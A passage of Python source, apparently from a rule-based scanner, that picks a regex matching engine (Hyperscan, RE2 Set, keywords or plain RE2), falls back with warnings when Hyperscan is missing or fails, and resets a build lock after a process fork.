_build_lock = threading.Lock()


def _restart_builds_in_child() -> None:
    global _build_lock
    _build_lock = threading.Lock()  # a parent's thread may have held it: it does not exist here
    for engine in list(_building):
        engine._after_fork_in_child()


if hasattr(os, "register_at_fork"):
    os.register_at_fork(after_in_child=_restart_builds_in_child)


def make_engine(engine: str, rules: Sequence[Rule], extra_patterns: Sequence[str] = ()) -> Any:
    """Build engine ``engine`` (``auto``: Hyperscan when installed and sound, else the RE2 ``Set``;
    a Hyperscan database not cached yet is compiled in the background, see :class:`BackgroundEngine`)."""
    if engine == "auto":
        try:
            defect = hyperscan_defect()
        except ImportError:
            return Re2SetEngine(rules, extra_patterns)
        if defect is not None:
            _warn_once(defect + "; using the slower RE2 engine")
            return Re2SetEngine(rules, extra_patterns)
        import hyperscan

        try:
            return HyperscanEngine(rules, extra_patterns, cached_only=True)
        except NotCached:
            return BackgroundEngine(rules, extra_patterns)
        except hyperscan.error as exc:  # e.g. out of memory compiling a huge custom rule set
            _warn_once(f"Hyperscan could not compile the rules ({exc}); using the slower RE2 engine")
            return Re2SetEngine(rules, extra_patterns)
    if engine == "hyperscan":
        defect = hyperscan_defect()
        if defect is not None:
            _warn_once(defect + "; findings may be missed")
        return HyperscanEngine(rules, extra_patterns)
    if engine == "re2set":
        return Re2SetEngine(rules, extra_patterns)
    if engine == "keywords":
        return KeywordsEngine(rules, extra_patterns)
    if engine == "re2":
        return ReferenceEngine(rules, extra_patterns)
    raise ValueError(f"unknown engine {engine!r}; expected 'auto' or one of {ENGINES}")
